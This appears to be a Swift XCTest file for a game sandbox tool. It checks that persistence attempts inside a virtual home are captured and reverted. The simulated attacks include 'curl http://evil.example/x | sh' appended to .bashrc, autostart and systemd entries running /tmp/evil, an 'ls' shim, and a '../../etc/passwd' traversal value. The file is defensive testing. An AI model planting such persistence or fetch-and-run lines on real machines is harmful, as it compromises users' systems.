import XCTest

/// Persistence capture in a virtual home: the game's writes to its home's shell startup files,
/// autostart, systemd and ~/.local/bin are each a `persistence_attempt` with a copy of what was
/// written, and at the end the targets are as they were before; the real home never changes. As the
/// unprivileged test user against the real bwrap.
final class PersistenceTests: XCTestCase {
    let sb = Sandbox.shared

    func virtualHome(_ home: FakeHome, game: String) -> String { home.path + "/.local/share/winewarden/virtual/\(game)/home" }
    func attempts(_ log: String) -> [[String: Any]] { sb.events(log).filter { $0["kind"] as? String == "persistence_attempt" } }

    func testEveryWriteIsCapturedAndPutBackAndTheRealHomeIsUntouched() throws {
        let home = try sb.makeHome()
        let before = home.snapshot()
        let log = sb.logPath()
        let r = try sb.ww(["--log", log, "--", "/bin/sh", "-c", """
            echo 'curl http://evil.example/x | sh' >> ~/.bashrc && echo BASHRC-WRITTEN
            mkdir -p ~/.config/autostart ~/.config/systemd/user ~/.local/bin
            printf '[Desktop Entry]\\nType=Application\\nExec=/tmp/evil --autostart\\n' > ~/.config/autostart/evil.desktop
            printf '[Service]\\nExecStart=/tmp/evil --service\\n' > ~/.config/systemd/user/evil.service
            printf '#!/bin/sh\\nexec /tmp/evil\\n' > ~/.local/bin/ls; chmod +x ~/.local/bin/ls
            cat ~/.bashrc
            """], home: home)
        XCTAssertEqual(r.status, 0, r.output)
        XCTAssertTrue(r.stdout.contains("BASHRC-WRITTEN"), "the game's own copy is writable: \(r.output)")
        let events = attempts(log)
        let game = try XCTUnwrap(sb.events(log).first?["game"] as? String)
        func event(_ rel: String) -> [String: Any]? { events.first { $0["target"] as? String == home.path + "/" + rel } }
        let bashrc = try XCTUnwrap(event(".bashrc"), "\(events)")
        XCTAssertEqual(bashrc["mechanism"] as? String, "shell-startup")
        XCTAssertEqual(bashrc["command"] as? String, "curl http://evil.example/x | sh")
        XCTAssertEqual(bashrc["removed"] as? Bool, true)
        XCTAssertEqual(event(".config/autostart/evil.desktop")?["command"] as? String, "Exec=/tmp/evil --autostart", "\(events)")
        XCTAssertEqual(event(".config/autostart/evil.desktop")?["mechanism"] as? String, "xdg-autostart")
        XCTAssertEqual(event(".config/systemd/user/evil.service")?["command"] as? String, "ExecStart=/tmp/evil --service", "\(events)")
        XCTAssertEqual(event(".local/bin/ls")?["mechanism"] as? String, "user-bin", "\(events)")
        XCTAssertEqual(events.count, 4, "\(events)")
        XCTAssertTrue(r.stderr.contains("4 persistence attempts captured"), r.stderr)
        // Trust: 10 each, at most 3 counted: 50 → 20 (red).
        let t = try sb.ww(["trust", "show", game], home: home)
        XCTAssertTrue(t.stdout.contains("20") && t.stdout.contains("red"), t.output)
        // The capture holds the bytes written, byte for byte.
        let capture = try XCTUnwrap(bashrc["capture"] as? String)
        let shown = try sb.ww(["events", "--capture", capture], home: home)
        XCTAssertEqual(shown.stdout, "curl http://evil.example/x | sh\n", shown.output)
        // Put back: the virtual home holds none of it, and the real home is as it was.
        let vhome = virtualHome(home, game: game)
        for rel in [".config/autostart/evil.desktop", ".config/systemd/user/evil.service", ".local/bin/ls"] {
            XCTAssertFalse(FileManager.default.fileExists(atPath: vhome + "/" + rel), rel)
        }
        XCTAssertFalse(((try? String(contentsOfFile: vhome + "/.bashrc", encoding: .utf8)) ?? "").contains("evil"))
        XCTAssertEqual(home.snapshot(), before, "the real files changed")
        // The next session starts from the restored home and sees nothing new.
        let log2 = sb.logPath()
        let again = try sb.ww(["--log", log2, "--", "/bin/sh", "-c", "cat ~/.bashrc 2>/dev/null; ls ~/.config/autostart 2>/dev/null; true"], home: home)
        XCTAssertFalse(again.stdout.contains("evil"), again.output)
        XCTAssertEqual(attempts(log2).count, 0)
    }

    /// ww killed mid-session: the next ww puts the targets back first and records what it found.
    func testWhatAKilledSessionLeftIsPutBackByTheNextOne() throws {
        let home = try sb.makeHome()
        let log = sb.logPath()
        let pid = try sb.backgroundAsUser(sb.wwBinary, ["--log", log, "--", "/bin/sh", "-c", "echo 'evil-after-kill' >> ~/.bashrc; echo written > /tmp/ready; sleep 60"],
                                          env: sb.wwEnvironment(home: home))
        let deadline = Date().addingTimeInterval(30)
        var game: String?
        while Date() < deadline {
            game = (try? String(contentsOfFile: log, encoding: .utf8)).flatMap { $0.contains("exec_allowed") || $0.contains("policy_applied") ? sb.events(log).first?["game"] as? String : nil }
            if let g = game, ((try? String(contentsOfFile: virtualHome(home, game: g) + "/.bashrc", encoding: .utf8)) ?? "").contains("evil-after-kill") { break }
            usleep(20_000)
        }
        let g = try XCTUnwrap(game)
        XCTAssertTrue(((try? String(contentsOfFile: virtualHome(home, game: g) + "/.bashrc", encoding: .utf8)) ?? "").contains("evil-after-kill"))
        kill(pid, SIGKILL)
        var status: Int32 = 0
        waitpid(pid, &status, 0)
        let log2 = sb.logPath()
        let r = try sb.ww(["--log", log2, "--", "/bin/sh", "-c", "cat ~/.bashrc 2>/dev/null; true"], home: home)
        XCTAssertFalse(r.stdout.contains("evil-after-kill"), r.output)
        let found = attempts(log2)
        XCTAssertEqual(found.count, 1, "\(found)")
        XCTAssertEqual(found.first?["target"] as? String, home.path + "/.bashrc")
        XCTAssertEqual(found.first?["note"] as? String, "left by a session that did not end")
        XCTAssertEqual(found.first?["removed"] as? Bool, true)
    }

    func testABadCaptureIdIsAClearError() throws {
        let home = try sb.makeHome()
        let r = try sb.ww(["events", "--capture", "../../etc/passwd"], home: home)
        XCTAssertEqual(r.status, 125, r.output)
        XCTAssertTrue(r.stderr.contains("give the capture field of a persistence_attempt event"), r.output)
        let missing = try sb.ww(["events", "--capture", "0123456789abcdef/1"], home: home)
        XCTAssertNotEqual(missing.status, 0)
        XCTAssertTrue(missing.stderr.contains("no capture 0123456789abcdef/1"), missing.output)
    }

    /// Two sessions of one game share its virtual home: the one that started first owns the journal and,
    /// when it ends, records and puts back what either changed; the second says it does not capture.
    func testASecondSessionOfTheSameGameLeavesTheCaptureToTheFirst() throws {
        let home = try sb.makeHome()
        let first = sb.logPath()
        let pid = try sb.backgroundAsUser(sb.wwBinary, ["--log", first, "--", "/bin/sh", "-c", "i=0; while [ ! -e ~/.second-done ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done"],
                                          env: sb.wwEnvironment(home: home))
        defer { kill(pid, SIGKILL) }
        let deadline = Date().addingTimeInterval(30)
        while !(((try? String(contentsOfFile: first, encoding: .utf8)) ?? "").contains("exec_allowed")) && Date() < deadline { usleep(20_000) }
        let second = sb.logPath()
        let r = try sb.ww(["--log", second, "--", "/bin/sh", "-c", "echo 'evil-from-second' >> ~/.bashrc; touch ~/.second-done"], home: home)
        XCTAssertEqual(r.status, 0, r.output)
        let status = sb.events(second).first { $0["kind"] as? String == "persistence_capture_status" }
        XCTAssertEqual(status?["capturing"] as? Bool, false, "\(sb.events(second).map { $0["kind"] ?? "" })")
        XCTAssertEqual(attempts(second).count, 0)
        var exit: Int32 = 0
        waitpid(pid, &exit, 0)
        let found = attempts(first)
        XCTAssertEqual(found.first?["target"] as? String, home.path + "/.bashrc", "\(found)")
        XCTAssertEqual(found.first?["removed"] as? Bool, true, "\(found)")
        let game = try XCTUnwrap(sb.events(first).first?["game"] as? String)
        XCTAssertFalse(((try? String(contentsOfFile: virtualHome(home, game: game) + "/.bashrc", encoding: .utf8)) ?? "").contains("evil-from-second"))
    }
}
